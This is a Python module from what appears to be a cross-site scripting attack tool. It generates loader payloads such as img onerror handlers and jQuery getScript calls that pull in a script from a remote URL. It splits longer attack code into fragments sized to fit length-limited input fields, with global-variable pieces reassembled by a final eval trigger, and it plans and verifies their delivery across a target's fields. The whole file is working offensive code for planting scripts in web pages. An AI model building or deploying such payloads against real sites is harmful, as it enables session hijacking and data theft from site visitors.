"""Loader payloads, length-limited fragmentation and delivery planning.

Code too long for a channel field is split into pieces, each stored in a
global variable by its own self-firing element, and a final trigger
element evaluates the concatenation.  Pieces must be displayed before the
trigger, so every plan delivers the trigger last.
"""

from __future__ import annotations

import enum
import itertools
import re
import string
from dataclasses import dataclass, field
from typing import Iterable, Iterator, Optional, Sequence

from .channels import Channel, Delivery, validate_value
from .sinks import PayloadVector, SinkKind, Vector, evaluate_sink


class ForgeError(ValueError):
    pass


class InvalidUrl(ForgeError):
    pass


class LimitTooSmall(ForgeError):
    pass


class UnescapableChunk(ForgeError):
    pass


class InsufficientCapacity(ForgeError):
    pass


class SinkPreconditionError(ForgeError):
    pass


class VerificationFailed(ForgeError):
    def __init__(self, position: int, fragment_index: int, reason: str) -> None:
        super().__init__(f"delivery position {position} (fragment {fragment_index}): {reason}")
        self.position = position
        self.fragment_index = fragment_index
        self.reason = reason


# --------------------------------------------------------------------------
# loaders


class LoaderStyle(str, enum.Enum):
    SCRIPT_TAG = "ScriptTagLoader"
    IMG_ONERROR_DYNAMIC = "ImgOnErrorDynamic"
    JQUERY_GET_SCRIPT = "JQueryGetScript"


STYLE_ALIASES = {
    "script": LoaderStyle.SCRIPT_TAG,
    "img": LoaderStyle.IMG_ONERROR_DYNAMIC,
    "dynamic": LoaderStyle.IMG_ONERROR_DYNAMIC,
    "jquery": LoaderStyle.JQUERY_GET_SCRIPT,
}


@dataclass(frozen=True)
class Payload:
    markup: str
    vector: PayloadVector
    inner_code: str
    url: Optional[str] = None

    @property
    def length(self) -> int:
        return len(self.markup)


_BAD_URL = re.compile(r"[\s'\"`<>]")


def loader_code(url: str, style: LoaderStyle) -> str:
    """The JavaScript a loader runs inline (empty for the script-tag form)."""
    if style is LoaderStyle.SCRIPT_TAG:
        return ""
    if style is LoaderStyle.IMG_ONERROR_DYNAMIC:
        return (
            "d=document;b=d.createElement('script');"
            f"d.body.appendChild(b);b.src='{url}'"
        )
    return f"$.getScript('{url}')"


def make_loader(url: str, style: LoaderStyle | str) -> Payload:
    style = STYLE_ALIASES.get(style, style) if isinstance(style, str) else style
    style = LoaderStyle(style)
    if not url or _BAD_URL.search(url):
        raise InvalidUrl(f"url must be non-empty without whitespace or quotes: {url!r}")
    if style is LoaderStyle.SCRIPT_TAG:
        return Payload(f"<script src={url}></script>", PayloadVector.script_tag(), "", url)
    if style is LoaderStyle.JQUERY_GET_SCRIPT and not re.match(r"^https?://", url, re.I):
        raise InvalidUrl("getScript needs an explicit http: or https: scheme")
    code = loader_code(url, style)
    return Payload(f"<img src onerror={code}>", PayloadVector.img_onerror(), code, url)


# --------------------------------------------------------------------------
# fragmentation


class Role(str, enum.Enum):
    PIECE = "Piece"
    COMBINER = "Combiner"
    TRIGGER = "Trigger"
    DIRECT = "Direct"


@dataclass(frozen=True)
class Fragment:
    index: int
    markup: str
    role: Role
    var_name: Optional[str] = None
    chunk: Optional[str] = None
    operands: tuple[str, ...] = ()

    @property
    def is_trigger(self) -> bool:
        return self.role in (Role.TRIGGER, Role.DIRECT)

    @property
    def length(self) -> int:
        return len(self.markup)


def carried_code(fragments: Iterable[Fragment]) -> str:
    """Concatenate the code carried by pieces (or a direct fragment) in index order."""
    ordered = sorted(fragments, key=lambda f: f.index)
    return "".join(f.chunk for f in ordered if f.role in (Role.PIECE, Role.DIRECT))


_RESERVED = frozenset(
    """do if in for let new try var top case else enum eval null self this true void
    with name event frames length opener parent status window closed origin screen
    history location document""".split()
)


def variable_names() -> Iterator[str]:
    """a..z, aa..az, ba.. skipping reserved words and browser globals."""
    for width in itertools.count(1):
        for letters in itertools.product(string.ascii_lowercase, repeat=width):
            name = "".join(letters)
            if name not in _RESERVED:
                yield name


_SIMPLE_ESCAPES = {'"': '\\"', "\\": "\\\\", "\n": "\\n", "\t": "\\t", "\r": "\\r", "\f": "\\f"}


def _js_escape(ch: str) -> str:
    if ch in _SIMPLE_ESCAPES:
        return _SIMPLE_ESCAPES[ch]
    cp = ord(ch)
    if cp < 0x100:
        return "\\x%02x" % cp
    if cp < 0x10000:
        return "\\u%04x" % cp
    cp -= 0x10000
    return "\\u%04x\\u%04x" % (0xD800 + (cp >> 10), 0xDC00 + (cp & 0x3FF))


@dataclass(frozen=True)
class _Wrapper:
    open: str
    close: str
    unsafe: frozenset  # characters that must be escaped inside a "..." literal

    def needs_escape(self, ch: str) -> bool:
        return ch in self.unsafe or not (" " <= ch <= "~")

    def can_carry_raw(self, code: str) -> bool:
        raise NotImplementedError


class _AttributeWrapper(_Wrapper):
    def can_carry_raw(self, code: str) -> bool:
        if not code or code[0] in "\"'" or not code.isascii():
            return False
        return not any(c in " \t\n\r\f>&" or not c.isprintable() for c in code)


class _ScriptWrapper(_Wrapper):
    def can_carry_raw(self, code: str) -> bool:
        return bool(code) and "</script" not in code.lower() and code.isascii()


def _wrapper_for(vector: PayloadVector) -> _Wrapper:
    if vector.style is Vector.SCRIPT_TAG:
        return _ScriptWrapper("<script>", "</script>", frozenset('"\\<\n\r'))
    tag = vector.tag_name or "img"
    event = vector.event_name or "onerror"
    return _AttributeWrapper(
        f"<{tag} src {event}=", ">", frozenset('"\\>& \t\n\r\f')
    )


def _encode(ch: str, wrapper: _Wrapper, escape: bool) -> str:
    if not wrapper.needs_escape(ch):
        return ch
    if not escape:
        raise UnescapableChunk(f"character {ch!r} cannot be carried by {wrapper.open!r}")
    return _js_escape(ch)


# characters each piece leaves unused below the limit, when it can afford to
PIECE_SLACK = 2


def fragment_payload(
    inner_code: str,
    limit: int,
    wrapper: Optional[PayloadVector] = None,
    *,
    escape: bool = True,
    slack: int = PIECE_SLACK,
) -> list[Fragment]:
    """Split ``inner_code`` into fragments whose markup is at most ``limit`` chars.

    If the whole code fits in one self-firing element it is returned as a
    single ``Direct`` fragment.  Otherwise pieces are packed greedily, each
    taking the longest prefix that fits, followed by combiner fragments if
    the trigger's variable list would overflow, and finally the trigger.

    Pieces stop ``slack`` characters short of the limit when that still
    leaves room for the next character, so a receiver that decorates or
    re-counts a value has some margin; combiners and the trigger use the
    full limit.

    With ``escape=False`` characters the wrapper cannot hold literally raise
    :class:`UnescapableChunk` instead of being written as JS escapes.
    """
    if slack < 0:
        raise ValueError("slack must be >= 0")
    if not inner_code:
        raise ValueError("inner_code must be non-empty")
    w = _wrapper_for(wrapper or PayloadVector.img_onerror())
    names = variable_names()
    smallest_trigger = f"{w.open}eval(a){w.close}"
    if limit < len(smallest_trigger):
        raise LimitTooSmall(f"limit {limit} < smallest trigger {len(smallest_trigger)}")

    direct = f"{w.open}{inner_code}{w.close}"
    if len(direct) <= limit and w.can_carry_raw(inner_code):
        return [Fragment(0, direct, Role.DIRECT, chunk=inner_code)]

    out: list[Fragment] = []
    pos = 0
    while pos < len(inner_code):
        name = next(names)
        budget = limit - len(f'{w.open}{name}=""{w.close}')
        if len(_encode(inner_code[pos], w, escape)) <= budget - slack:
            budget -= slack
        encoded: list[str] = []
        used = 0
        start = pos
        while pos < len(inner_code):
            enc = _encode(inner_code[pos], w, escape)
            if used + len(enc) > budget:
                break
            encoded.append(enc)
            used += len(enc)
            pos += 1
        if pos == start:
            raise LimitTooSmall(
                f"limit {limit} leaves no room for a chunk in variable {name!r}"
            )
        markup = f'{w.open}{name}="{"".join(encoded)}"{w.close}'
        out.append(Fragment(len(out), markup, Role.PIECE, name, inner_code[start:pos]))

    live = [f.var_name for f in out]

    def trigger(vs: Sequence[str]) -> str:
        return f"{w.open}eval({'+'.join(vs)}){w.close}"

    def combiner(target: str, vs: Sequence[str]) -> str:
        return f"{w.open}{target}={'+'.join(vs)}{w.close}"

    while len(trigger(live)) > limit:
        merged: list[str] = []
        progressed = False
        i = 0
        while i < len(live):
            target = next(names)
            group = [live[i]]
            i += 1
            while i < len(live) and len(combiner(target, group + [live[i]])) <= limit:
                group.append(live[i])
                i += 1
            if len(group) == 1:
                merged.append(group[0])
                continue
            progressed = True
            out.append(Fragment(len(out), combiner(target, group), Role.COMBINER,
                                target, operands=tuple(group)))
            merged.append(target)
        if not progressed:
            raise LimitTooSmall(f"limit {limit} cannot hold a two-operand combiner")
        live = merged

    out.append(Fragment(len(out), trigger(live), Role.TRIGGER, operands=tuple(live)))
    return out


# --------------------------------------------------------------------------
# planning


class PlanMode(str, enum.Enum):
    MULTI_FIELD = "MultiField"
    TIMED_SEQUENCE = "TimedSequence"
    SINGLE_SHOT = "SingleShot"


@dataclass(frozen=True)
class Assignment:
    field_name: str
    fragments: tuple[Fragment, ...]
    time_slot: Optional[int] = None

    @property
    def value(self) -> str:
        return "".join(f.markup for f in self.fragments)


@dataclass(frozen=True)
class InjectionPlan:
    channel: Channel
    assignments: tuple[Assignment, ...]
    mode: PlanMode
    inner_code: str

    def delivery_values(self) -> list[str]:
        return [a.value for a in self.assignments]

    def delivered_fragments(self) -> list[Fragment]:
        return [f for a in self.assignments for f in a.fragments]


def _check_fragments(fragments: Sequence[Fragment]) -> list[Fragment]:
    if not fragments:
        raise ValueError("no fragments to plan")
    ordered = sorted(fragments, key=lambda f: f.index)
    triggers = [f for f in ordered if f.is_trigger]
    if len(triggers) != 1 or ordered[-1] is not triggers[0]:
        raise ValueError("fragment set must end with exactly one trigger")
    return ordered


def _assign_fields(
    ordered: Sequence[Fragment], channel: Channel, candidates: Sequence[str]
) -> Optional[list[str]]:
    """Map fragments to distinct fields; None if impossible.

    First-fit in preference order keeps roomy fields first; if that fails,
    the longest fragment takes the tightest field that still holds it,
    which is optimal because field capacities are nested thresholds.
    """
    def fits(frag: Fragment, name: str) -> bool:
        return bool(validate_value(channel, name, frag.markup))

    free = list(candidates)
    chosen: list[str] = []
    for frag in ordered:
        pick = next((n for n in free if fits(frag, n)), None)
        if pick is None:
            break
        free.remove(pick)
        chosen.append(pick)
    else:
        return chosen

    by_len = sorted(range(len(ordered)), key=lambda i: -ordered[i].length)
    pool = sorted(candidates, key=lambda n: channel.field(n).max_length)
    result: dict[int, str] = {}
    for i in by_len:
        pick = next((n for n in pool if fits(ordered[i], n)), None)
        if pick is None:
            return None
        pool.remove(pick)
        result[i] = pick
    return [result[i] for i in range(len(ordered))]


def plan_injection(
    fragments: Sequence[Fragment],
    channel: Channel,
    field_preference: Optional[Sequence[str]] = None,
) -> InjectionPlan:
    ordered = _check_fragments(fragments)
    code = carried_code(ordered)
    if field_preference:
        candidates = [channel.field(n).field_name for n in field_preference]
    else:
        candidates = list(channel.field_names)

    if channel.delivery is Delivery.SINGLE_FIELD_TIMED:
        name = candidates[0]
        for frag in ordered:
            check = validate_value(channel, name, frag.markup)
            if not check:
                raise InsufficientCapacity(
                    f"fragment {frag.index} ({frag.length} chars) does not fit "
                    f"{channel.name}.{name}: {check.reason}"
                )
        assignments = tuple(
            Assignment(name, (frag,), time_slot=t) for t, frag in enumerate(ordered)
        )
        return InjectionPlan(channel, assignments, PlanMode.TIMED_SEQUENCE, code)

    if channel.delivery is Delivery.SINGLE_SHOT:
        whole = Assignment(candidates[0], tuple(ordered))
        check = validate_value(channel, whole.field_name, whole.value)
        if not check:
            raise InsufficientCapacity(
                f"whole payload ({len(whole.value)} chars) does not fit "
                f"{channel.name}.{whole.field_name}: {check.reason}"
            )
        return InjectionPlan(channel, (whole,), PlanMode.SINGLE_SHOT, code)

    if len(ordered) > len(candidates):
        raise InsufficientCapacity(
            f"{len(ordered)} fragments but only {len(candidates)} fields in {channel.name}"
        )
    names = _assign_fields(ordered, channel, candidates)
    if names is None:
        raise InsufficientCapacity(f"field limits of {channel.name} cannot host all fragments")
    assignments = tuple(Assignment(n, (f,)) for n, f in zip(names, ordered))
    return InjectionPlan(channel, assignments, PlanMode.MULTI_FIELD, code)


# --------------------------------------------------------------------------
# symbolic verification

_IDENT = r"[A-Za-z_$][\w$]*"
_ASSIGN_LIT = re.compile(rf'^({_IDENT})="((?:[^"\\]|\\.)*)"$', re.S)
_ASSIGN_CAT = re.compile(rf"^({_IDENT})=({_IDENT}(?:\+{_IDENT})*)$")
_EVAL_CAT = re.compile(rf"^eval\(({_IDENT}(?:\+{_IDENT})*)\)$")
_ESC = re.compile(r"\\(u\{[0-9a-fA-F]+\}|u[0-9a-fA-F]{4}|x[0-9a-fA-F]{2}|[0-7]|.)", re.S)
_ESC_CHARS = {"n": "\n", "t": "\t", "r": "\r", "f": "\f", "v": "\v", "b": "\b", "0": "\0"}


def js_unescape(body: str) -> str:
    """Decode the escapes of a JavaScript string literal body."""

    def sub(m: re.Match) -> str:
        e = m.group(1)
        if e.startswith("u{"):
            return chr(int(e[2:-1], 16))
        if e[0] in "ux" and len(e) > 1:
            return chr(int(e[1:], 16))
        return _ESC_CHARS.get(e, e)

    decoded = _ESC.sub(sub, body)
    # re-pair UTF-16 surrogates produced by \uD8xx\uDCxx sequences
    return decoded.encode("utf-16", "surrogatepass").decode("utf-16")


@dataclass(frozen=True)
class VerificationResult:
    verified: bool
    recovered_code: str
    executed: tuple[tuple[int, str], ...] = field(default_factory=tuple)


def verify_plan(
    plan: InjectionPlan, sink: SinkKind, expected_code: Optional[str] = None
) -> VerificationResult:
    """Replay the plan through ``sink`` and symbolically evaluate what runs.

    Assignments of string literals and concatenations are tracked in a
    variable environment; ``eval`` of a concatenation (or a direct
    fragment's code) produces the recovered code, which must equal the
    plan's code.  Nothing is ever executed.
    """
    fragments = plan.delivered_fragments()
    uses_script = any(f.markup.lower().startswith("<script") for f in fragments)
    if uses_script and not sink.executes_script_tag:
        raise SinkPreconditionError(f"{sink.api_name} does not run script elements")
    if not uses_script and not sink.executes_event_attribute:
        raise SinkPreconditionError(f"{sink.api_name} does not run event attributes")

    expected = plan.inner_code if expected_code is None else expected_code
    env: dict[str, str] = {}
    recovered: Optional[str] = None
    trace: list[tuple[int, str]] = []

    def concat(names: str, pos: int, frag: Fragment) -> str:
        parts = []
        for v in names.split("+"):
            if v not in env:
                raise VerificationFailed(pos, frag.index, f"variable {v!r} is undefined")
            parts.append(env[v])
        return "".join(parts)

    for pos, frag in enumerate(fragments):
        result = evaluate_sink(sink, frag.markup)
        if not result.executed_code:
            raise VerificationFailed(pos, frag.index, "no code triggered")
        for code in result.executed_code:
            trace.append((pos, code))
            if m := _ASSIGN_LIT.match(code):
                env[m.group(1)] = js_unescape(m.group(2))
            elif m := _ASSIGN_CAT.match(code):
                env[m.group(1)] = concat(m.group(2), pos, frag)
            elif m := _EVAL_CAT.match(code):
                recovered = concat(m.group(1), pos, frag)
            else:
                recovered = code
        if recovered is not None and pos != len(fragments) - 1:
            raise VerificationFailed(pos, frag.index, "trigger fired before the last delivery")

    if recovered is None:
        raise VerificationFailed(len(fragments) - 1, fragments[-1].index, "nothing evaluated")
    if recovered != expected:
        raise VerificationFailed(
            len(fragments) - 1, fragments[-1].index,
            f"recovered code differs from expected ({len(recovered)} vs {len(expected)} chars)",
        )
    return VerificationResult(True, recovered, tuple(trace))
